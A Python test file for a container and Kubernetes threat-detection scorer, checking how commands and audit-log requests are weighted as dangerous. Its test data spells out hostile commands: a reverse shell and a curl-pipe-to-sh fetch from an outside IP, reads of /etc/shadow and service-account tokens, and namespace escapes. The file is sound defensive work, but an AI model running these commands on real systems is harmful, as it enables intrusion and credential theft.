"""What commands and requests can do, in points."""

from datetime import UTC, datetime
from typing import Any

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from features.commands import COMMANDS
from features.dangers import met
from features.events import EVENT_SCHEMA, frame
from features.extractors.control import extractor
from features.request_danger import REQUESTS, dangers_of
from features.sources.kubernetes_audit import source

MOMENT = "2026-09-14T09:20:00Z"
START = datetime(2026, 9, 14, 9, 20, tzinfo=UTC)
ADMIN = {"kind": "ClusterRoleBinding", "roleRef": {"kind": "ClusterRole", "name": "cluster-admin"}}
WILDCARD = {"rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]}
HOST = {"spec": {"hostPID": True, "containers": [{"name": "a", "image": "alpine:3"}]}}
ACCOUNT = "system:serviceaccount:shop:api"


def points_of(command: str) -> float:
    return float(met(pl.Series("command", [command]), COMMANDS)["points"].sum())


@pytest.mark.parametrize(
    "command",
    [
        "cat /mnt/etc/shadow",
        "nsenter -t 1 -m sh",
        "chroot /host sh",
        "curl -s http://198.51.100.7/x | sh",
        "bash -c bash -i >& /dev/tcp/198.51.100.7/443 0>&1",
        "/tmp/.x --version",  # noqa: S108
        "/dev/shm/kdev",  # noqa: S108
        "sh /var/tmp/run.sh",
        "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
        "cat /proc/1/environ",
        "wget -qO- http://169.254.169.254/latest/meta-data/",
    ],
)
def test_command_that_reaches_out_of_its_container_is_dangerous(command: str) -> None:
    """Escapes, credentials of others, code from the network and programs in directories for temporary files weigh 6."""
    assert points_of(command) >= 6


@pytest.mark.parametrize(
    "command",
    ["ps aux", "top -b -n 1", "ls -la /tmp", "df -h", "tail -n 500 /app/app.log", "cat /etc/resolv.conf",
     "curl -sv localhost:8080/health", "netstat -tnp", "/bin/sh -c pg_isready -U app", "cat /proc/1/status"],
)  # fmt: skip
def test_look_at_the_own_container_is_no_danger(command: str) -> None:
    """What operators look at in an incident weighs nothing, new as it may be."""
    assert points_of(command) == 0


@given(st.text(max_size=40))
def test_each_danger_of_a_line_is_met_once(line: str) -> None:
    """Whatever a command says, no danger is told twice of it, and the points are those of the table."""
    found = met(pl.Series("command", [line, line]), COMMANDS)

    assert not found.is_duplicated().any()
    assert set(found["danger"]) <= {danger.name for danger in COMMANDS}


def test_dangers_are_named_once() -> None:
    """A name stands for one danger: dangers with the same name would hide each other in a window's sum."""
    names = [danger.name for danger in (*COMMANDS, *REQUESTS)]
    assert len(names) == len(set(names))


def asked(verb: str, resource: str, /, user: str = "ada@corp.example", **details: Any) -> dict[str, float]:
    """Give the dangers of one request, by name."""
    name, _, subresource = resource.partition("/")
    reference = {"resource": name, "subresource": subresource or None, "name": details.get("name", "x")}
    reference["namespace"] = details.get("namespace")
    record = {
        "auditID": "a", "verb": verb, "user": {"username": user}, "objectRef": reference,
        "sourceIPs": [details.get("source", "10.0.0.9")], "userAgent": details.get("agent", "kubectl/v1.31"),
        "requestURI": details.get("uri", "/"), "requestObject": details.get("body"),
        "responseStatus": {"code": details.get("code", 200)}, "requestReceivedTimestamp": MOMENT,
    }  # fmt: skip
    rows = [row for row in source.parse(record, None) if row["kind"] == "audit"]
    events = pl.DataFrame(
        [{key: row.get(key) for key in EVENT_SCHEMA if key != "ts"} for row in rows],
        schema={key: dtype for key, dtype in EVENT_SCHEMA.items() if key != "ts"},
    )
    placed = events.with_columns(pl.col("actor").alias("workload"), pl.lit(START).alias("window_start"))
    return dict(dangers_of(placed).select("danger", "points").rows())


@pytest.mark.parametrize(
    ("verb", "resource", "details"),
    [
        ("create", "clusterrolebindings", {"body": ADMIN}),
        ("create", "clusterroles", {"body": WILDCARD}),
        ("list", "secrets", {"name": None}),
        ("create", "pods", {"body": HOST, "namespace": "shop"}),
        ("create", "daemonsets", {"body": {"spec": {"template": HOST}}, "namespace": "shop"}),
        ("create", "mutatingwebhookconfigurations", {}),
        ("update", "certificatesigningrequests/approval", {}),
        ("get", "nodes/proxy", {}),
    ],
)
def test_request_for_the_cluster_weighs_most(verb: str, resource: str, details: dict[str, Any]) -> None:
    """What hands out all rights, all secrets or a node weighs 8."""
    assert max(asked(verb, resource, **details).values()) == 8


def test_reading_what_runs_is_no_danger() -> None:
    """Listing pods, and a role that may only read them, weigh nothing."""
    reading = {"rules": [{"apiGroups": [""], "resources": ["pods"], "verbs": ["get", "list"]}]}

    assert asked("list", "pods", namespace="shop") == {}
    assert asked("create", "roles", namespace="shop", body=reading) == {}


def test_what_was_refused_weighs_a_part() -> None:
    """A binding that was refused weighs a quarter; a secret that was refused weighs as much as one that was read."""
    allowed, refused = (asked("create", "clusterrolebindings", body=ADMIN, code=code) for code in (201, 403))

    assert sum(refused.values()) == sum(allowed.values()) / 4
    assert asked("get", "secrets", code=403) == asked("get", "secrets", code=200) != {}


def test_work_of_the_control_plane_weighs_a_part() -> None:
    """A controller that makes privileged pods does its work; from outside nobody is the control plane."""
    controller = "system:serviceaccount:kube-system:daemon-set-controller"
    at_work = asked("create", "pods", controller, body=HOST, namespace="shop", agent="kube-controller-manager")
    stolen = asked("create", "pods", controller, body=HOST, namespace="shop", agent="curl/8", source="198.51.100.7")

    assert max(at_work.values()) == 2
    assert max(stolen.values()) == 8


def test_account_of_a_pod_is_odd_outside_and_with_a_tool() -> None:
    """A service account that speaks from outside, with curl, is a danger whatever it asks for."""
    assert asked("list", "pods", ACCOUNT, agent="app/v1") == {}
    found = asked("list", "pods", ACCOUNT, agent="curl/8.5.0", source="198.51.100.7")
    assert {"a pod's account speaks from outside", "a pod's account speaks with a person's tool"} <= found.keys()


def test_command_of_a_session_weighs_for_who_runs_it() -> None:
    """What is run through exec counts for the actor beside the session itself."""
    uri = "/api/v1/namespaces/shop/pods/x/exec?command=cat&command=%2Fetc%2Fshadow&container=app"

    found = asked("create", "pods/exec", namespace="shop", uri=uri)

    assert found == {"opens a session in a container": 6.0, "reads the password database": 8.0}


def test_nobody_asks_without_a_name_but_for_health() -> None:
    """The anonymous user is a danger, except where everyone may ask."""
    assert "asks without a name" in asked("get", "pods", "system:anonymous", uri="/api/v1/pods")
    assert asked("get", "", "system:anonymous", uri="/healthz", name=None) == {}


def ran(*commands: str) -> tuple[float | None, set[str]]:
    """Give the danger and the named purposes of one window in which commands ran in a workload."""
    base = {"source": "docker_events", "kind": "exec", "action": "exec_create", "workload": "docker:shop/api"}
    events = frame([base | {"ts": START, "command": command} for command in commands])
    events = events.with_columns(pl.lit(None, pl.String).alias("healthcheck"))

    found = extractor.extract(events)

    named = found.items.filter(pl.col("feature") == "control.new_purpose")["item"]
    return found.values["control.command_danger"].item(), set(named)


def test_window_sums_its_dangers_each_once() -> None:
    """The same danger met thrice weighs as much as once, another comes on top, what is harmless adds nothing."""
    assert ran("ps aux") == (None, set())
    assert ran("nsenter -t 1 sh", "nsenter -t 1 sh", "nsenter -t 1 id", "ps aux")[0] == 8
    assert ran("nsenter -t 1 sh", "chmod +x /tmp/.x")[0] == 13


def test_first_shell_is_no_purpose_of_its_own() -> None:
    """A small danger counts in the sum, and is not named: a shell is already a new command."""
    assert ran("sh") == (1.0, set())
    assert ran("cat /mnt/etc/shadow")[1] == {"reads the password database"}
